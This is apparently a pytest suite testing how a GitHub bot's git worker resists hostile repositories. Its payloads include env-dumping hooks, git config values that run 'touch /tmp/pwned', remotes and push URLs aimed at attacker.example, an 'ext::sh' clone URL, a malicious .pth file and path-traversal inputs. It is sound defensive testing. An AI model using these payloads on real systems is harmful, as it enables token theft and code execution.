"""Attacks on the worker's git: a repository (or its tests) trying to run code through git, read
the installation token, get extra files committed, or lose someone's commits to a force push.

Real git, real processes, the GitHub stand-in over HTTP. Where a protection is what stops an
attack, a control shows the same attack working without it (plain git).
"""
import base64
import os
import shutil
import stat
import subprocess
import textwrap
from datetime import datetime, timedelta, timezone
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.standin.fixtures import standin, standin_server  # noqa: F401
from workers.services import opening, repository
from workers.forge.github_client import AppClient
from workers.forge.gitrepo import HELPER, TOKEN_MIN_VALID, BranchMoved, GitError, clone, git_environment
from workers.services.repo_config import RepoConfig
from workers.services.state import FAILED, OPEN, BatchRecord, RepoState

OWNER, NAME, INSTALLATION = "octo", "legacy", 42
BOT = ("py3bridge[bot]", "1+py3bridge[bot]@users.noreply.github.com")
FILES = {
    "legacy/__init__.py": "",
    "legacy/greet.py": 'def greet(name):\n    print "hello", name\n    return name\n',
    "setup.py": "from setuptools import setup\n\nsetup(name='legacy', install_requires=[])\n",
    "README": "legacy\n",
}
HOOKS = ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "pre-push", "post-checkout",
         "post-merge", "reference-transaction", "post-index-change", "pre-auto-gc", "post-rewrite")
SECRETS = {"PRIVATE_KEY": "-----BEGIN RSA PRIVATE KEY----- secret-key-material",
           "WEBHOOK_SECRET": "webhook-secret-value", "REDIS_URL": "redis://:redis-password@127.0.0.1:1/0",
           "GITHUB_TOKEN": "ghp_environment_token_value"}


@pytest.fixture
def gh(standin):  # noqa: F811
    standin.state.make_repo(OWNER, NAME, FILES, installation_id=INSTALLATION)
    return standin


@pytest.fixture
def token(gh):
    return gh.state.mint_token(INSTALLATION).value


@pytest.fixture
def checkout(gh, token, tmp_path):
    return clone(gh.clone_url(OWNER, NAME), lambda min_valid=None: token, tmp_path / "work" / "legacy", "main")


def plant_hooks(git_dir, markers):
    """What a hostile test would do: hooks that dump the environment (the private key...)."""
    markers.mkdir(exist_ok=True)
    for name in HOOKS:
        hook = Path(git_dir) / "hooks" / name
        hook.parent.mkdir(parents=True, exist_ok=True)
        hook.write_text("#!/bin/sh\nenv > '%s/%s'\ncat >/dev/null 2>&1 || true\nexit 0\n" % (markers, name))
        hook.chmod(0o755)


def change_greet(checkout, text="print(name)"):
    path = checkout.path / "legacy" / "greet.py"
    path.write_text("from __future__ import print_function\n\ndef greet(name):\n    %s\n    return name\n" % text)


def committed_files(checkout, rev="HEAD"):
    return sorted(checkout.git("diff-tree", "--no-commit-id", "--name-only", "-r", rev).splitlines())


# -- hooks ----------------------------------------------------------------------------------------

def test_hooks_planted_in_the_clone_never_run(checkout, tmp_path):
    markers = tmp_path / "markers"
    plant_hooks(checkout.path / ".git", markers)
    checkout.start_branch("py3bridge/print_function-1", "main")
    change_greet(checkout)
    sha = checkout.commit_files(["legacy/greet.py"], "py3: print", *BOT)
    checkout.push("py3bridge/print_function-1", "")
    checkout.reset_to("main")
    assert list(markers.iterdir()) == []
    assert sha

    # Control: plain git in the same clone runs them, with whatever environment it has.
    plain = dict(os.environ, **SECRETS)
    change_greet(checkout, "print(name, 1)")
    subprocess.run(["git", "-c", "user.name=x", "-c", "user.email=x@y", "commit", "-qam", "x"], cwd=checkout.path,
                   env=plain, check=True, capture_output=True)
    assert "secret-key-material" in (markers / "pre-commit").read_text()


def test_hooks_path_or_fsmonitor_set_in_the_config_are_refused(checkout, tmp_path):
    plant_hooks(tmp_path / "elsewhere", tmp_path / "markers")
    for key, value in (("core.hooksPath", str(tmp_path / "elsewhere" / "hooks")),
                       ("core.fsmonitor", str(tmp_path / "elsewhere" / "hooks" / "pre-commit"))):
        subprocess.run(["git", "config", key, value], cwd=checkout.path, check=True)
        change_greet(checkout)
        with pytest.raises(GitError, match="config was changed"):
            checkout.commit_files(["legacy/greet.py"], "x", *BOT)
        subprocess.run(["git", "config", "--unset", key], cwd=checkout.path, check=True)
    assert not (tmp_path / "markers").exists() or list((tmp_path / "markers").iterdir()) == []


# -- .git/config and .git itself ---------------------------------------------------------------------

@pytest.mark.parametrize("key, value", [
    ("core.sshCommand", "touch /tmp/pwned; ssh"),
    ("core.pager", "touch /tmp/pwned"),
    ("core.editor", "touch /tmp/pwned"),
    ("core.worktree", "/tmp"),
    ("filter.lfs.clean", "touch /tmp/pwned"),
    ("filter.lfs.smudge", "touch /tmp/pwned"),
    ("diff.external", "touch /tmp/pwned"),
    ("include.path", "/tmp/evil.gitconfig"),
    ("includeIf.gitdir:/.path", "/tmp/evil.gitconfig"),
    ("remote.origin.pushurl", "http://attacker.example/x.git"),
    ("credential.helper", "store"),
    ("http.extraHeader", "X: y"),
    ("alias.commit", "!touch /tmp/pwned"),
    ("uploadpack.packObjectsHook", "touch /tmp/pwned"),
])
def test_any_config_key_outside_the_allowlist_is_refused(checkout, key, value):
    subprocess.run(["git", "config", "--add", key, value], cwd=checkout.path, check=True)
    change_greet(checkout)
    with pytest.raises(GitError, match="config was changed"):
        checkout.commit_files(["legacy/greet.py"], "x", *BOT)
    with pytest.raises(GitError, match="config was changed"):
        checkout.push("main", "")


def test_origin_pointed_elsewhere_is_refused(checkout):
    subprocess.run(["git", "remote", "set-url", "origin", "http://attacker.example/steal.git"], cwd=checkout.path,
                   check=True)
    with pytest.raises(GitError, match="origin remote was changed"):
        checkout.push("main", "")


def test_a_replaced_dot_git_is_refused(checkout, tmp_path):
    other = tmp_path / "other"
    subprocess.run(["git", "init", "-q", str(other)], check=True)
    shutil.rmtree(checkout.path / ".git")
    (checkout.path / ".git").write_text("gitdir: %s/.git\n" % other)
    with pytest.raises(GitError, match="not a plain directory"):
        checkout.head()
    (checkout.path / ".git").unlink()
    (checkout.path / ".git").symlink_to(other / ".git")
    with pytest.raises(GitError, match="not a plain directory"):
        checkout.head()


def test_the_clone_keeps_a_plain_config(checkout):
    """What clone writes passes the check (or nothing would ever work)."""
    checkout.verify_repository()
    assert checkout.remote_url.startswith("http://") and "@" not in checkout.remote_url


# -- the token -------------------------------------------------------------------------------------

@pytest.fixture
def traced_git(tmp_path, monkeypatch):
    """A `git` first on PATH that runs the real one under strace: every process git starts (the
    remote helper, the credential helper's shell...) is recorded with its argv and environment."""
    if not shutil.which("strace"):
        pytest.skip("strace is not installed")
    real = shutil.which("git")
    bin_dir, logs = tmp_path / "bin", tmp_path / "trace"
    bin_dir.mkdir()
    logs.mkdir()
    wrapper = bin_dir / "git"
    # Only the worker's git (its argv always disables hooks) is traced, not the stand-in's own.
    wrapper.write_text(textwrap.dedent("""\
        #!/bin/sh
        case " $* " in
          *core.hooksPath=/dev/null*) exec strace -f -qq -v -s 100000 -e trace=execve -o '%s/trace.'$$ '%s' "$@";;
          *) exec '%s' "$@";;
        esac
        """ % (logs, real, real)))
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", "%s:%s" % (bin_dir, os.environ["PATH"]))
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    return lambda: "\n".join(path.read_text(errors="replace") for path in sorted(logs.iterdir()))


def test_token_never_on_a_command_line_nor_in_an_environment(gh, token, tmp_path, traced_git):
    checkout = clone(gh.clone_url(OWNER, NAME), lambda min_valid=None: token, tmp_path / "w" / "legacy", "main")
    checkout.start_branch("py3bridge/print_function-1", "main")
    change_greet(checkout)
    sha = checkout.commit_files(["legacy/greet.py"], "py3: print", *BOT)
    checkout.push("py3bridge/print_function-1", "")
    assert gh.state.branch_sha(OWNER, NAME, "py3bridge/print_function-1") == sha  # it did authenticate

    trace = traced_git()
    assert "git-remote-http" in trace and "credential.helper=!f()" in trace  # the helper path was taken
    assert "; f get\"" in trace  # and the helper's shell ran inside the traced tree
    assert token not in trace  # no argv, no environ of any process git started
    assert base64.b64encode(("x-access-token:%s" % token).encode()).decode() not in trace  # nor a Basic header
    for value in SECRETS.values():
        assert value not in trace  # nothing of the worker's environment reaches git
    assert "core.hooksPath=/dev/null" in trace


def test_token_never_written_in_the_clone(checkout, token):
    checkout.start_branch("py3bridge/print_function-1", "main")
    change_greet(checkout)
    checkout.commit_files(["legacy/greet.py"], "py3: print", *BOT)
    checkout.push("py3bridge/print_function-1", "")
    for path in (checkout.path / ".git").rglob("*"):
        if path.is_file():
            assert token.encode() not in path.read_bytes(), path
    assert token not in checkout.git("remote", "-v")


def test_command_line_holds_only_the_fd_number(checkout):
    argv = checkout.command(["push", "origin", "HEAD"], helper_fd=7)
    helper = [arg for arg in argv if arg.startswith("credential.helper=!")]
    assert helper and "</dev/fd/7" in helper[0] and "password=$p" in helper[0]
    assert argv[argv.index("-c") + 1] == "core.hooksPath=/dev/null"


def test_the_helper_answers_every_get_whatever_the_fd_number(gh, token, tmp_path):
    """dash redirects only fds 0-9 with <&N; a busy worker has higher ones. Each `get` reads one line."""
    held = [os.open(os.devnull, os.O_RDONLY) for _ in range(20)]
    try:
        checkout = clone(gh.clone_url(OWNER, NAME), lambda min_valid=None: token, tmp_path / "w" / "l", "main")
        read_fd, write_fd = os.pipe()
        assert read_fd > 9
        os.write(write_fd, ("%s\n" % token).encode() * 2)
        os.close(write_fd)
        helper = HELPER[1:] % read_fd
        answers = [subprocess.run(["sh", "-c", helper + ' "$@"', "helper", "get"], input="protocol=http\n\n",
                                  capture_output=True, text=True, pass_fds=(read_fd,)).stdout for _ in range(2)]
        os.close(read_fd)
    finally:
        for fd in held:
            os.close(fd)
    assert answers == ["username=x-access-token\npassword=%s\n" % token] * 2
    assert checkout.head()


def test_git_environment_is_scrubbed(monkeypatch):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    env = git_environment()
    assert not set(SECRETS) & set(env)
    assert env["GIT_TERMINAL_PROMPT"] == "0" and env["GIT_CONFIG_NOSYSTEM"] == "1"
    assert env["GIT_CONFIG_GLOBAL"] == "/dev/null" and env["HOME"] != os.environ.get("HOME")
    assert oct(os.stat(env["HOME"]).st_mode & 0o777) == "0o700" and os.listdir(env["HOME"]) == []


def test_clone_urls_with_credentials_and_local_transports_are_refused(gh, token, tmp_path):
    with pytest.raises(GitError, match="credentials"):
        clone(gh.clone_url(OWNER, NAME, token), token, tmp_path / "a", "main")
    bare = gh.state.get_repo(OWNER, NAME).path
    for url in ("file://%s" % bare, "ext::sh -c touch%% %s/pwned" % tmp_path):
        with pytest.raises(GitError):
            clone(url, token, tmp_path / "b", "main")
    assert not (tmp_path / "pwned").exists()


# -- stale tokens ----------------------------------------------------------------------------------

def app_client(gh):
    settings = SimpleNamespace(app_id=str(gh.state.app.id), private_key=gh.state.app.private_key_pem,
                               github_api_url=gh.base_url, seconds_between_writes=0)
    return AppClient(settings)


def age_token(gh, client, value, left):
    """As if the cached token was minted long ago: it now expires in `left` (on GitHub too)."""
    expires = datetime.now(timezone.utc) + left
    gh.state.tokens[value].expires_at = expires
    client._tokens[INSTALLATION] = (value, expires)


def test_a_token_with_five_minutes_left_is_refreshed_for_git(gh):
    client = app_client(gh)
    first = client.installation_token(INSTALLATION)
    age_token(gh, client, first, timedelta(minutes=5, seconds=30))
    assert client.installation_token(INSTALLATION) == first  # fine for one API request
    fresh = client.installation_token(INSTALLATION, min_valid=TOKEN_MIN_VALID)
    assert fresh != first
    assert client.installation_token(INSTALLATION, min_valid=TOKEN_MIN_VALID) == fresh  # and cached


def test_a_push_after_a_long_test_run_uses_a_fresh_token(gh, tmp_path):
    client = app_client(gh)
    checkout = clone(gh.clone_url(OWNER, NAME), client.token_provider(INSTALLATION), tmp_path / "w" / "l", "main")
    used = client.installation_token(INSTALLATION)
    checkout.start_branch("py3bridge/print_function-1", "main")
    change_greet(checkout)
    checkout.commit_files(["legacy/greet.py"], "py3: print", *BOT)
    age_token(gh, client, used, timedelta(seconds=-1))  # hours of tests later: expired on GitHub...
    client._tokens[INSTALLATION] = (used, datetime.now(timezone.utc) + timedelta(minutes=5))  # ...cached "5 min"
    sha = checkout.push("py3bridge/print_function-1", "")
    assert gh.state.branch_sha(OWNER, NAME, "py3bridge/print_function-1") == sha
    assert client.installation_token(INSTALLATION) != used


def test_an_api_client_made_before_a_long_run_still_works_after_it(gh):
    client = app_client(gh)
    repo = client.github(INSTALLATION).get_repo("%s/%s" % (OWNER, NAME))
    used = client.installation_token(INSTALLATION)
    age_token(gh, client, used, timedelta(seconds=-1))
    assert repo.create_issue("still authenticated").number  # the token is looked up per request


# -- only the changed files are committed -----------------------------------------------------------

def drop_artefacts(root):
    """What a test run or a build leaves in a checkout, plus a file a test staged itself."""
    root = Path(root)
    (root / "python_dateutil.egg-info").mkdir()
    (root / "python_dateutil.egg-info" / "PKG-INFO").write_text("Metadata-Version: 1.1\n")
    (root / "evil.pth").write_text("import os; os.system('touch /tmp/pwned')\n")
    (root / "README").write_text("changed by a test\n")
    (root / "staged.py").write_text("x = 1\n")
    subprocess.run(["git", "add", "staged.py"], cwd=root, check=True, capture_output=True)


def test_commit_files_commits_exactly_the_given_paths(checkout):
    checkout.start_branch("py3bridge/print_function-1", "main")
    change_greet(checkout)
    drop_artefacts(checkout.path)
    checkout.commit_files(["legacy/greet.py"], "py3: print", *BOT)
    assert committed_files(checkout) == ["legacy/greet.py"]
    assert checkout.git("log", "-1", "--format=%an <%ae>") == "%s <%s>" % BOT


@pytest.mark.parametrize("path", ["../outside.py", "/etc/passwd", ".git/config", ".GIT/hooks/pre-push",
                                  "legacy/../../outside.py", "link/greet.py", "greet_link.py", "legacy"])
def test_paths_outside_the_checkout_or_through_symlinks_are_refused(checkout, path):
    (checkout.path / "link").symlink_to(checkout.path / "legacy")
    (checkout.path / "greet_link.py").symlink_to(checkout.path / "legacy" / "greet.py")
    with pytest.raises(GitError, match="refusing to commit"):
        checkout.commit_files([path], "x", *BOT)


class FakeRedis:
    def __init__(self):
        self.values = {}

    def set(self, key, value, **_):
        self.values[key] = value

    def get(self, key):
        return self.values.get(key)


@pytest.fixture
def worker(gh, tmp_path, monkeypatch):
    """The worker's own build_branch / open_pull_request on the stand-in, with the test run replaced
    by one that drops artefacts and hooks into the checkout (as a hostile suite run in it would)."""
    client = app_client(gh)
    context = SimpleNamespace(client=client, redis=FakeRedis(), author=BOT,
                              settings=SimpleNamespace(work_dir=str(tmp_path / "work")))
    repo = client.github(INSTALLATION).get_repo("%s/%s" % (OWNER, NAME))
    markers = tmp_path / "markers"

    def hostile_session(before, after, interpreters, config=None, **_):
        drop_artefacts(after)
        plant_hooks(Path(after) / ".git", markers)
        return []

    monkeypatch.setattr(opening, "run_session", hostile_session)
    return SimpleNamespace(context=context, repo=repo, markers=markers,
                           checkout=lambda: repository.fresh_clone(context, repo, INSTALLATION))


def test_build_branch_commits_the_changed_files_only(worker):
    checkout, state = worker.checkout(), RepoState("%s/%s" % (OWNER, NAME))
    batch = BatchRecord("print_function", 1, ["legacy/greet.py"])
    fixer, reports, sha = opening.build_branch(worker.context, worker.repo, checkout, state, batch, RepoConfig(), {})
    assert batch.file_sites == {"legacy/greet.py": 1}
    assert committed_files(checkout, sha) == ["legacy/greet.py"]
    assert list(worker.markers.iterdir()) == []


def test_build_branch_commits_a_declared_dependency_file(worker, monkeypatch):
    def change_files(root, batch, fixer, evidence=None):
        (Path(root) / "legacy" / "greet.py").write_text("import six\n")
        (Path(root) / "setup.py").write_text("from setuptools import setup\nsetup(install_requires=['six'])\n")
        batch.dependencies = {"six": "setup.py"}
        return {"legacy/greet.py": 1}, ""

    monkeypatch.setattr(opening, "_change_files", change_files)
    checkout, state = worker.checkout(), RepoState("%s/%s" % (OWNER, NAME))
    batch = BatchRecord("print_function", 1, ["legacy/greet.py"])
    _, _, sha = opening.build_branch(worker.context, worker.repo, checkout, state, batch, RepoConfig(), {})
    assert committed_files(checkout, sha) == ["legacy/greet.py", "setup.py"]


# -- pushes never overwrite someone else's commits -------------------------------------------------

def test_the_lease_refuses_to_overwrite_a_branch_someone_pushed_to(checkout, gh):
    branch = "py3bridge/print_function-1"
    checkout.start_branch(branch, "main")
    change_greet(checkout)
    checkout.commit_files(["legacy/greet.py"], "py3: print", *BOT)
    ours = checkout.push(branch, "")
    human = gh.state.commit_files(OWNER, NAME, branch, {"legacy/extra.py": "x = 1\n"}, message="a fix by hand",
                                  author=("Jo", "jo@example.com"))
    change_greet(checkout, "print(name, 2)")
    checkout.commit_files(["legacy/greet.py"], "rebuilt", *BOT)  # a rebuild during a long test run
    with pytest.raises(BranchMoved, match="moved since py3bridge pushed it; not overwritten"):
        checkout.push(branch, ours)
    with pytest.raises(BranchMoved):
        checkout.push(branch, "")  # "must not exist"
    assert gh.state.branch_sha(OWNER, NAME, branch) == human


def test_a_new_pr_never_overwrites_a_branch_of_the_same_name(worker, gh):
    human = gh.state.commit_files(OWNER, NAME, "py3bridge/print_function-1", {"notes.txt": "mine\n"},
                                  author=("Jo", "jo@example.com"))
    checkout, state = worker.checkout(), RepoState("%s/%s" % (OWNER, NAME))
    batch = BatchRecord("print_function", 1, ["legacy/greet.py"])
    state.batches.append(batch)
    opening.open_pull_request(worker.context, worker.repo, checkout, state, batch, RepoConfig(), {})
    assert batch.state == FAILED and "not overwritten" in batch.reason
    assert gh.state.branch_sha(OWNER, NAME, batch.branch) == human
    assert gh.state.pulls(OWNER, NAME) == []


def test_a_branch_left_by_an_interrupted_attempt_is_taken_over(worker, gh):
    """Pushed, then the worker died before the PR: only py3bridge's commit is there, so it is ours."""
    gh.state.commit_files(OWNER, NAME, "py3bridge/print_function-1", {"legacy/greet.py": "print(1)\n"},
                          author=BOT)
    checkout, state = worker.checkout(), RepoState("%s/%s" % (OWNER, NAME))
    batch = BatchRecord("print_function", 1, ["legacy/greet.py"])
    state.batches.append(batch)
    opening.open_pull_request(worker.context, worker.repo, checkout, state, batch, RepoConfig(), {})
    assert batch.state == OPEN and batch.pushed_sha == gh.state.branch_sha(OWNER, NAME, batch.branch)
    assert len(gh.state.pulls(OWNER, NAME)) == 1
    assert list(worker.markers.iterdir()) == []


def test_old_batch_records_load_without_pushed_sha():
    state = RepoState.from_json('{"full_name": "o/r", "batches": [{"fixer": "f", "sequence": 1, "files": []}]}')
    assert state.batches[0].pushed_sha == ""


def test_recreate_never_overwrites_a_push_made_during_its_test_run(worker, gh, redis_server, monkeypatch):
    """`/py3bridge recreate` discards the commits it saw; one pushed while it rebuilt is kept."""
    from redis import Redis

    from workers.services import commands, state as repo_state

    worker.context.redis = Redis.from_url(redis_server)
    worker.context.redis.flushdb()
    state = RepoState("%s/%s" % (OWNER, NAME))
    batch = BatchRecord("print_function", 1, ["legacy/greet.py"])
    state.batches.append(batch)
    opening.open_pull_request(worker.context, worker.repo, worker.checkout(), state, batch, RepoConfig(), {})
    assert batch.state == OPEN and batch.pushed_sha
    repo_state.save(worker.context.redis, state)
    gh.state.commit_files(OWNER, NAME, batch.branch, {"legacy/seen.py": "x = 1\n"}, author=("Jo", "jo@example.com"))
    pushed = {}  # the commit above is one recreate sees and discards; the one below is not

    def someone_pushes_meanwhile(before, after, interpreters, config=None, **_):
        pushed["sha"] = gh.state.commit_files(OWNER, NAME, batch.branch, {"legacy/fix.py": "x = 1\n"},
                                              author=("Jo", "jo@example.com"))
        return []

    monkeypatch.setattr(opening, "run_session", someone_pushes_meanwhile)
    run = commands.Run(worker.context, INSTALLATION, worker.repo, worker.repo.get_issue(batch.pr), None, "jo",
                       "pr", "py3bridge")
    assert "did not overwrite it" in run.do_recreate()
    assert gh.state.branch_sha(OWNER, NAME, batch.branch) == pushed["sha"]


def test_a_checkout_a_dying_git_still_writes_in_is_removed_on_a_second_try(tmp_path, monkeypatch):
    # a worker killed mid-clone: its git may add a file while the folder is emptied
    from workers.forge import gitrepo

    checkout = tmp_path / "checkout"
    (checkout / ".git").mkdir(parents=True)
    real_rmtree, calls = gitrepo.shutil.rmtree, []

    def racing_rmtree(path):
        calls.append(path)
        if len(calls) == 1:
            raise OSError(39, "Directory not empty", ".git")
        real_rmtree(path)

    monkeypatch.setattr(gitrepo.shutil, "rmtree", racing_rmtree)
    gitrepo._remove(checkout)
    assert len(calls) == 2 and not checkout.exists()


def test_a_checkout_that_stays_busy_still_fails_with_the_error(tmp_path, monkeypatch):
    from workers.forge import gitrepo

    (tmp_path / "checkout").mkdir()
    monkeypatch.setattr(gitrepo.shutil, "rmtree", lambda path: (_ for _ in ()).throw(OSError(39, "Directory not empty")))
    monkeypatch.setattr(gitrepo.time, "sleep", lambda seconds: None)
    with pytest.raises(OSError):
        gitrepo._remove(tmp_path / "checkout")
